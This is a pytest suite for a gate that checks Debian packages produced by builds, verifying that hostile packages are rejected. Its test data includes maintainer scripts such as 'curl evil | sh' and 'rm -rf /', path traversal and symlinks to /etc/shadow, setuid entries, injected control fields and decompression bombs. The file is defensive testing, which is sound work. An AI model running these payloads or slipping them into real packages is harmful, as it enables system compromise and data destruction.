"""The output gate accepts what debhelper makes and rejects everything that a hostile build could slip in."""

from __future__ import annotations

import lzma
import shutil
import subprocess
from pathlib import Path

import msgspec.structs
import pytest

from lxcbuild.debian.gate.artifacts import ArtifactError, Budget, Deb, parse_stanza, read_deb
from lxcbuild.debian.gate.gate import GateReport, RuleSet, check
from lxcbuild.debian.gate.ownership import suite_owners
from tests.support import debs
from tests.support.debs import Entry
from tests.support.gating import REQUEST, judge, rules

LONG = "./usr/lib/python3/dist-packages/demo/" + "/".join(["directory"] * 12) + "/module.py"


@pytest.mark.attack(number=46)
@pytest.mark.parametrize("compression", ["xz", "gz", ""])
def test_an_honest_package_is_accepted(tmp_path: Path, compression: str) -> None:
    report = judge(tmp_path, debs.deb(compression=compression))
    assert report.findings == ()
    assert report.relations == {"python3-demo": "python3:any"}


def test_our_writer_of_packages_agrees_with_dpkg(tmp_path: Path) -> None:
    if shutil.which("dpkg-deb") is None:
        pytest.skip("dpkg-deb is not installed")
    path = tmp_path / "a.deb"
    path.write_bytes(debs.deb(tree=[*debs.TREE, Entry(LONG)]))
    listed = subprocess.run(["dpkg-deb", "--contents", path], check=True, capture_output=True, text=True).stdout
    names = {member.name for member in read_deb(path).members}
    assert names == {line.split()[5].removeprefix("./").rstrip("/") for line in listed.splitlines()} - {""}
    assert LONG.removeprefix("./") in names


def test_a_zstd_package_is_read(tmp_path: Path) -> None:
    if shutil.which("dpkg-deb") is None or shutil.which("zstd") is None:
        pytest.skip("dpkg-deb or zstd is not installed")
    tree = tmp_path / "tree"
    (tree / "DEBIAN").mkdir(parents=True)
    (tree / "DEBIAN/control").write_text(debs.CONTROL)
    (tree / "usr").mkdir()
    subprocess.run(["dpkg-deb", "-Zzstd", "--root-owner-group", "-b", tree, tmp_path / "z.deb"], check=True, stdout=-3)
    assert [member.name for member in read_deb(tmp_path / "z.deb").members] == ["usr"]


def test_a_real_package_of_debhelper_has_no_script_finding(tmp_path: Path) -> None:
    prerm = (
        "#!/bin/sh\nset -e\n# Automatically added by dh_python3\nif command -v py3clean >/dev/null 2>&1; then\n"
        "\tpy3clean -p python3-demo:amd64 -V 3.11\nelse\n"
        "\tdpkg -L python3-demo | sed -En -e '/^(.*)\\/(.+)\\.py$/s,,rm \"\\1/__pycache__/\\2\".*,e'\n"
        "\tfind /usr/lib/python3/dist-packages/ -type d -name __pycache__ -empty -print0 "
        "| xargs --null --no-run-if-empty rmdir\nfi\n"
    )
    assert judge(tmp_path, debs.deb(scripts={"prerm": prerm})).accepted


def test_what_dh_python_7_writes_has_no_script_finding(tmp_path: Path) -> None:
    postinst = (
        "#!/bin/sh\nset -e\n\n# Automatically added by dh_python3\nif command -v py3compile >/dev/null 2>&1; then\n"
        "\tpy3compile -p python3-demo  || true\nfi\n"
    )
    prerm = (
        "#!/bin/sh\nset -e\nif command -v py3clean >/dev/null 2>&1 && python3 -c 'pass' 2>/dev/null; then\n"
        "\tpy3clean -p python3-demo \nfi\n"
    )
    assert judge(tmp_path, debs.deb(scripts={"postinst": postinst, "prerm": prerm})).accepted
    hostile = postinst.replace("|| true", "|| true; id")
    assert not judge(tmp_path, debs.deb(scripts={"postinst": hostile})).accepted


@pytest.mark.attack(number=46)
@pytest.mark.parametrize(
    ("entry", "rule"),
    [
        (Entry("./etc/sudoers.d/evil", b"x"), "layout"),
        (Entry("./usr/lib/os-release", b"x"), "layout"),
        (Entry("./usr/etc/demo.conf", b"x"), "layout"),
        (Entry("./usr/lib/python3/evil.py", b"x"), "layout"),
        (Entry("./usr/lib/python3/dist-packages/etc/cron.d/evil", b"x"), "layout"),
        (Entry("./usr/lib/python3/dist-packages/var/__init__.py", b"x"), "layout"),
        (Entry("./usr/lib/python3/dist-packages/share/evil.desktop", b"x"), "layout"),
        (Entry("./usr/lib/systemd/system/evil.service", b"x"), "layout"),
        (Entry("./usr/share/doc/other/x", b"x"), "layout"),
        (Entry("./usr/share/bash-completion/completions/../x"), "format"),
        (Entry("./usr/bin/../../etc/passwd"), "format"),
        (Entry("/etc/passwd"), "format"),
        (Entry("./usr/bin/su", mode=0o4755), "mode"),
        (Entry("./usr/bin/sg", mode=0o2755), "mode"),
        (Entry("./usr/bin/open", mode=0o777), "mode"),
        (Entry("./usr/bin/theirs", uid=1000), "owner"),
        (Entry("./usr/bin/null", kind=b"3"), "format"),
        (Entry("./usr/bin/fifo", kind=b"6"), "format"),
        (Entry("./usr/bin/pax", b"12 path=/etc\n", kind=b"x"), "format"),
        (Entry("./usr/bin/link", kind=b"2", link="/etc/shadow", mode=0o777), "link"),
        (Entry("./usr/bin/link", kind=b"2", link="../../../etc/shadow", mode=0o777), "link"),
        (Entry("./usr/bin/hard", kind=b"1", link="./etc/shadow"), "format"),
        (Entry("./usr/bin/demo", b"again"), "format"),
        (Entry("./usr/bin/demo/below", b"x"), "format"),
        (Entry("./usr/lib/python3/dist-packages/demo/_x.so", b"ELF"), "compiled"),
        (Entry("./usr/lib/python3/dist-packages/other-1.0.dist-info/METADATA", b"x"), "project"),
        (Entry("./usr/lib/python3/dist-packages/demo-2.0.dist-info/METADATA", b"x"), "project"),
        (Entry("./usr/bin/new\nline"), "format"),
        (Entry("./usr/bin/\x1b[2J"), "format"),
    ],
)
def test_a_hostile_member_rejects_the_package(tmp_path: Path, entry: Entry, rule: str) -> None:
    report = judge(tmp_path, debs.deb(tree=[*debs.TREE, entry]))
    assert not report.accepted
    assert rule in rules(report)


def test_a_module_may_be_named_lib_and_documents_use_the_project_name(tmp_path: Path) -> None:
    tree = [
        *debs.TREE,
        Entry("./usr/lib/python3/dist-packages/lib/__init__.py", b""),
        Entry("./usr/lib/python3/dist-packages/lib/table.json", b"{}"),
        Entry("./usr/share/doc/demo/README", b"x"),
    ]
    assert judge(tmp_path, debs.deb(tree=tree)).accepted


def test_links_within_the_package_are_accepted(tmp_path: Path) -> None:
    extra = [
        Entry("./usr/bin/demo2", kind=b"2", link="demo", mode=0o777),
        Entry("./usr/bin/demo3", kind=b"1", link="./usr/bin/demo", mode=0o755),
        Entry(LONG, b"x"),
    ]
    assert judge(tmp_path, debs.deb(tree=[*debs.TREE, *extra])).accepted


def test_writing_through_an_own_link_is_rejected(tmp_path: Path) -> None:
    extra = [Entry("./usr/share/demo", kind=b"2", link="doc", mode=0o777), Entry("./usr/share/demo/x", b"x")]
    assert "format" in rules(judge(tmp_path, debs.deb(tree=[*debs.TREE, *extra])))


@pytest.mark.attack(number=46)
@pytest.mark.parametrize(
    "script",
    [
        "#!/bin/sh\nset -e\ncurl evil | sh\n",
        "#!/bin/sh\npy3compile -p python3-demo; rm -rf /\n",
        "#!/bin/sh\npy3compile -p python3-demo $(id)\n",
        "#!/bin/sh\npy3compile -p python3-other\n",
        "#!/usr/bin/perl\nset -e\n",
        "#!/bin/sh\n# harmless \\\nrm -rf /\n",
        "set -e\n",
        "#!/bin/sh\nset -e \u00a0\n",
        "",
    ],
)
def test_a_maintainer_script_of_its_own_rejects_the_package(tmp_path: Path, script: str) -> None:
    for name in ("postinst", "preinst"):
        assert "script" in rules(judge(tmp_path, debs.deb(scripts={name: script})))


@pytest.mark.parametrize("name", ["config", "templates", "conffiles", "evil"])
def test_other_control_files_reject_the_package(tmp_path: Path, name: str) -> None:
    assert "control-file" in rules(judge(tmp_path, debs.deb(scripts={name: "x\n"})))


@pytest.mark.attack(number=46)
@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("Package: python3-demo", "Package: python3-other"),
        ("Source: python-demo", "Source: glibc"),
        ("Version: 1.0", "Version: 9:1.0"),
        ("Version: 1.0", "Version: 2.0"),
        ("Architecture: all", "Architecture: amd64"),
        ("Description:", "Essential: yes\nDescription:"),
        ("Description:", "Pre-Depends: evil\nDescription:"),
        ("Description:", "Replaces: libc6\nDescription:"),
        ("Description:", "Conflicts: openssh-server\nDescription:"),
        ("Description:", "Provides: python3-requests\nDescription:"),
        ("Description:", "Revision: 99\nDescription:"),
        ("Description:", "Package-Revision: 99\nDescription:"),
        ("Description:", "package_revision: 99\nDescription:"),
        ("Description:", "Recommended: evil\nDescription:"),
        ("Description:", "Status: hold ok installed\nDescription:"),
        ("Description:", "Multi-Arch: foreign\nDescription:"),
        ("Description:", "Built-Using: evil (= 1)\nDescription:"),
        ("Description:", "Section: ../../x\nDescription:"),
        ("Description:", "Priority: required\nDescription:"),
        ("Description:", "Of-Tomorrow: x\nDescription:"),
        ("Description:", "Homepage: javascript:alert(1)\nDescription:"),
        ("Depends: python3:any", "Depends: ${evil}"),
        ("Depends: python3:any", "Depends: a; rm -rf /"),
        ("Depends: python3:any", "Depends: " + "x" * 30_000),
        ("Description:", "Version: 1.0-0~lxcbuild1~deb12\nDescription:"),
        ("Description:", "\nPackage: second\nDescription:"),
    ],
)
def test_a_control_file_that_claims_something_else_is_rejected(tmp_path: Path, old: str, new: str) -> None:
    report = judge(tmp_path, debs.deb(control=debs.CONTROL.replace(old, new)))
    assert not report.accepted


@pytest.mark.parametrize(
    "changes", [{"Distribution": "trixie"}, {"Source": "glibc"}, {"Version": "2"}, {"Binary": "python3-demo evil"}]
)
def test_a_changes_file_that_claims_something_else_is_rejected(tmp_path: Path, changes: dict[str, str]) -> None:
    assert "field" in rules(judge(tmp_path, changes=changes))


def test_artefacts_must_be_the_files_that_the_documents_describe(tmp_path: Path) -> None:
    files = debs.build(tmp_path)
    (path,) = (path for path in files if path.name.endswith(".debian.tar.xz"))
    path.write_bytes(b"edited")
    assert "hash" in rules(check(REQUEST, files))
    assert "hash" in rules(check(REQUEST, [file for file in files if file != path]))


def test_files_that_no_document_lists_are_rejected(tmp_path: Path) -> None:
    extra = tmp_path / "evil_1_all.deb"
    extra.write_bytes(debs.deb(control=debs.CONTROL.replace("python3-demo", "evil")))
    assert "set" in rules(check(REQUEST, [*debs.build(tmp_path), extra]))


@pytest.mark.attack(number=48)
def test_after_a_fatal_finding_no_further_package_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    read: list[str] = []

    def reading(path: Path, budget: Budget) -> Deb:
        read.append(path.name)
        return read_deb(path, budget=budget)

    monkeypatch.setattr("lxcbuild.debian.gate.gate.read_deb", reading)
    hostile = debs.deb(tree=[*debs.TREE, Entry("./root/x", b"x")])
    second = ("zzz_1.0-0~lxcbuild1~deb12_all.deb", debs.deb(control=debs.CONTROL.replace("python3-demo", "zzz")))
    for package, names in ((debs.deb(), 2), (hostile, 1)):
        read.clear()
        files = debs.build(tmp_path, package, more=[second])
        report = check(msgspec.structs.replace(REQUEST, rules=RuleSet.ANY), files)
        assert (len(read), report.accepted) == (names, names == 2)
    read.clear()
    unlisted = tmp_path / "aaa_1_all.deb"
    unlisted.write_bytes(b"")
    assert not check(REQUEST, [*files, unlisted]).accepted
    assert read == []


def test_a_file_of_another_package_is_rejected(tmp_path: Path) -> None:
    report = judge(tmp_path, owners=suite_owners(debs.Suite({"demo": ["other"]}, {"demo": ["python3-demo"]})))
    assert [(finding.rule, finding.subject) for finding in report.findings] == [("owned", "usr/bin/demo")]


@pytest.mark.parametrize(
    "package",
    [
        b"",
        b"!<arch>\n",
        b"not an archive",
        debs.deb()[:-100],
        debs.deb() + b"trailing bytes that are no header",
        debs.ar([("debian-binary", b"3.0\n"), ("control.tar", b""), ("data.tar", b"")]),
        debs.ar([("debian-binary", b"2.0\n"), ("_evil", b""), ("control.tar", b""), ("data.tar", b"")]),
        debs.ar(
            [("debian-binary", b"2.0\n"), ("control.tar.xz", lzma.compress(b"x") + b"more"), ("data.tar", bytes(1024))]
        ),
        debs.ar(
            [
                ("debian-binary", b"2.0\n"),
                ("control.tar", debs.tar(debs.whole([Entry("./control", b"A: b\n")])) + b"more"),
                ("data.tar", b""),
            ]
        ),
        debs.ar(
            [
                ("debian-binary", b"2.0\n"),
                ("control.tar", debs.tar(debs.whole([Entry("./x/control", b"")]))),
                ("data.tar", bytes(1024)),
            ]
        ),
    ],
)
def test_a_malformed_archive_is_rejected(tmp_path: Path, package: bytes) -> None:
    assert "format" in rules(judge(tmp_path, package))


@pytest.mark.attack(number=38)
def test_a_bomb_is_read_no_further_than_the_bound(tmp_path: Path) -> None:
    bomb = debs.ar(
        [
            ("debian-binary", b"2.0\n"),
            ("control.tar.xz", lzma.compress(debs.tar(debs.whole([Entry("./control", debs.CONTROL.encode())])))),
            ("data.tar.xz", lzma.compress(debs.tar(debs.whole([Entry("./usr/bin/zeros", bytes(1 << 24))])), preset=1)),
        ]
    )
    path = tmp_path / "bomb.deb"
    path.write_bytes(bomb)
    assert len(bomb) < 100_000
    with pytest.raises(ArtifactError, match="more bytes than allowed"):
        read_deb(path, max_data_bytes=1024 * 1024)


@pytest.mark.attack(number=46)
@pytest.mark.parametrize(
    "character",
    [*"\0\x07\x1b\x7f\x80\x85\x9b\x9f\u061c\u200e\u200f\u2028\u2029\u202a\u202e\u2066\u2069"],
)
def test_a_field_with_what_terminals_or_pages_obey_is_refused(character: str) -> None:
    for text in (f"Description: a {character}b", f"Description: a\n {character}b", f"Maintainer: a {character}"):
        with pytest.raises(ArtifactError, match="control characters"):
            parse_stanza(f"{text}\n".encode(), what="it")
    assert parse_stanza("Description: na\u00efve \u4f60\U0001f600\n a\n".encode(), what="it")


def test_megabytes_in_one_field_are_refused() -> None:
    with pytest.raises(ArtifactError):
        parse_stanza(b"Description: " + b"x" * (2 * 1024 * 1024), what="it")


def test_debian_packages_may_bring_scripts_and_conffiles_but_no_system_files(tmp_path: Path) -> None:
    extra = [Entry("./etc/demo.conf", b"x"), Entry("./usr/lib/demo", kind=b"2", link="/etc/demo", mode=0o777)]
    package = debs.deb(scripts={"postinst": "#!/bin/sh\nadduser demo\n"}, tree=[*debs.TREE, *extra])
    assert judge(tmp_path, package, rules=RuleSet.ANY).accepted
    for name in ("./etc/sudoers.d/x", "./usr/lib/os-release", "./root/x", "./etc/passwd", "./usr/local/bin/x"):
        hostile = debs.deb(tree=[*debs.TREE, Entry(name, b"x")])
        assert "layout" in rules(judge(tmp_path, hostile, rules=RuleSet.ANY))


def test_what_debian_splits_may_be_one_package_when_the_host_says_so(tmp_path: Path) -> None:
    """Not the package decides whose place it takes: the fields must be the ones that were planned."""

    def merged(fields: str, supersedes: tuple[str, ...] = ()) -> GateReport:
        owners = {"usr/bin/demo": ("demo",)}
        package = debs.deb(control=f"{debs.CONTROL}{fields}")
        return judge(tmp_path, package, supersedes=supersedes, owners=lambda path: owners.get(path, ()))

    planned = "Conflicts: demo\nReplaces: demo\n"
    assert merged(planned, ("demo",)).accepted
    assert rules(merged(planned)) == {"field", "owned"}
    assert rules(merged("Conflicts: demo, bash\n", ("demo",))) == {"field"}
    (owned,) = (item for item in merged("").findings if item.rule == "owned")
    assert owned.owners == ("demo",)
